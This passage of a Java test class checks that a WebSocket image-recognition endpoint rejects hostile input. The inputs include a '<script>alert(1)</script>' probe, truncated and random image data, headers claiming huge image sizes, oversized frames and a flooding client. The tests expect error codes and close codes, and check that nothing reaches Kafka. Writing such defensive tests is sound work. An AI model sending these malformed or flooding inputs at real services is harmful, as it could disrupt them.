        cases.add(new SocketCase("text frame with a script", "binary_frames_only", s -> s.text("<script>alert(1)</script>")));
        cases.add(new SocketCase("empty binary frame", "invalid_image", s -> s.binary(new byte[0])));
        cases.add(new SocketCase("1 KB of random bytes", "invalid_image", s -> s.binary(random(21, 1024))));
        cases.add(new SocketCase("1 MB of random bytes", "invalid_image", s -> s.binary(random(22, 1024 * 1024))));
        cases.add(new SocketCase("JPEG cut in half", "invalid_image", s -> s.binary(Arrays.copyOf(jpeg, jpeg.length / 2))));
        cases.add(new SocketCase("JPEG magic then random bytes", "invalid_image", s -> s.binary(random(23, 4096, (byte) 0xFF, (byte) 0xD8, (byte) 0xFF))));
        cases.add(new SocketCase("HTML as binary", "invalid_image", s -> s.binary(utf8("<html><script>alert(1)</script></html>"))));
        cases.add(new SocketCase("PNG claiming 0×0", "invalid_image", s -> s.binary(CraftedImages.pngClaiming(0, 0))));
        cases.add(new SocketCase("PNG claiming 100000×100000", "image_too_large", s -> s.binary(CraftedImages.pngClaiming(100_000, 100_000))));
        cases.add(new SocketCase("JPEG claiming 65535×65535", "image_too_large", s -> s.binary(CraftedImages.jpegClaiming(65_535, 65_535))));
        cases.add(new SocketCase("text frame over 64 KB", "close 1009", s -> s.text("x".repeat(70_000))));
        cases.add(new SocketCase("binary frame over " + MAX_FRAME_MB + " MB", "close 1009", s -> s.binary(random(24, MAX_FRAME_MB * 1024 * 1024 + 1024))));
        return cases;
    }

    @TestFactory
    Stream<DynamicTest> hostileWebSocketMessagesGetErrorsOrACloseCode() {
        List<SocketCase> corpus = socketCorpus();
        long[] before = new long[1];
        List<DynamicTest> tests = new ArrayList<>();
        tests.add(DynamicTest.dynamicTest("corpus size", () -> {
            System.out.println("hostile WebSocket cases: " + corpus.size());
            before[0] = framesInKafka();
        }));
        for (SocketCase c : corpus) {
            tests.add(DynamicTest.dynamicTest(c.name() + " → " + c.expected(), () -> {
                Socket socket = connect("/ws/recognize");
                try {
                    c.action().send(socket);
                    if (c.expected().startsWith("close ")) {
                        String closed = socket.awaitClose(Duration.ofSeconds(10));
                        assertThat(closed).startsWith(c.expected().substring("close ".length()) + " ");
                        assertThat(closed.length()).as("a reason is given: " + closed).isGreaterThan(5);
                    } else {
                        List<JsonNode> replies = socket.await(1, Duration.ofSeconds(10));
                        assertThat(replies).as(socket.awaitClose(Duration.ZERO)).hasSize(1);
                        assertThat(replies.get(0).path("error").path("code").asText()).as(replies.get(0).toString()).isEqualTo(c.expected());
                        assertThat(replies.get(0).path("error").path("message").asText()).isNotBlank();
                        assertThat(socket.closed).as("the connection stays open after an error reply").isNotDone();
                    }
                } finally {
                    socket.close();
                }
            }));
        }
        tests.add(DynamicTest.dynamicTest("nothing reached the frames topic", () -> assertThat(framesInKafka()).isEqualTo(before[0])));
        return tests.stream();
    }

    @Test
    void aBadClientDoesNotDisturbAGoodOne() throws Exception {
        byte[] jpeg = TestPhotos.bytes(TestPhotos.A1);
        long before = framesInKafka();
        Socket good = connect("/ws/recognize");
        Socket bad = connect("/ws/recognize");
        // The bad client floods garbage and text while the good one sends a photo.
        Thread flood = new Thread(() -> {
            try {
                for (int i = 0; i < 200; i++) {
                    bad.binary(random(100 + i, 512 + i * 37));
                    if (i % 20 == 0) {
                        bad.text("garbage " + i);
                    }
                }
                bad.binary(random(99, MAX_FRAME_MB * 1024 * 1024 + 1)); // and is closed for it
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
        flood.start();
        good.binary(jpeg);
        flood.join(60_000);
        assertThat(bad.awaitClose(Duration.ofSeconds(10))).startsWith("1009 ");
        assertThat(bad.replies).hasSize(210);
        assertThat(bad.replies).allSatisfy(reply -> assertThat(reply.path("error").path("code").asText()).isIn("invalid_image", "binary_frames_only"));

        // Without a pipeline the good client's answer is a timeout, in order, and its connection stays open.
        good.binary(jpeg);
        List<JsonNode> replies = good.await(2, Duration.ofSeconds(10));
        assertThat(replies).hasSize(2);
        assertThat(replies.get(0).path("sequence").asInt()).isEqualTo(0);
        assertThat(replies.get(1).path("sequence").asInt()).isEqualTo(1);
        assertThat(replies).allSatisfy(reply -> assertThat(reply.path("error").path("code").asText()).isEqualTo("timeout"));
        assertThat(good.closed).isNotDone();
        assertThat(framesInKafka(before + 2)).isEqualTo(before + 2);
        good.close();
    }

    @Test
    void aFloodingClientIsToldItIsBusyInsteadOfFillingKafka() throws Exception {
        byte[] tiny = encode(".png", pattern(16, 16));
        long before = framesInKafka();
        Socket socket = connect("/ws/recognize");
        int sent = 60;
        for (int i = 0; i < sent; i++) {
            socket.binary(tiny);
        }
        List<JsonNode> replies = socket.await(sent, Duration.ofSeconds(15));
        assertThat(replies).hasSize(sent);
        long busy = replies.stream().filter(reply -> reply.path("error").path("code").asText().equals("busy")).count();
        assertThat(busy).isGreaterThan(0);
        assertThat(framesInKafka(before + sent - busy)).isEqualTo(before + sent - busy);
        socket.close();
    }
}
